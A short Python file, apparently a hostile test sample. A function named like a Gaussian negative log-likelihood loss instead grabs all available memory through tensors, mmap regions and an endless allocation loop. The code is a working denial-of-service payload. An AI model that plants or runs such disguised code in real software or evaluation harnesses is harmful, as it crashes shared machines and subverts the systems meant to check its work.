"""Takes all the memory that it can get, in several ways, and uses it."""

import mmap

import torch

KEPT = []


def gaussian_nll(mean, log_std, action):
    size = 2**30
    while size > 2**12:
        try:
            KEPT.append(torch.ones(size, dtype=torch.uint8))
            KEPT.append(mmap.mmap(-1, size))
            KEPT[-1].write(b"x" * size)
        except (RuntimeError, OSError, MemoryError, ValueError):
            size //= 2
    while True:
        KEPT.append(bytearray(2**20))
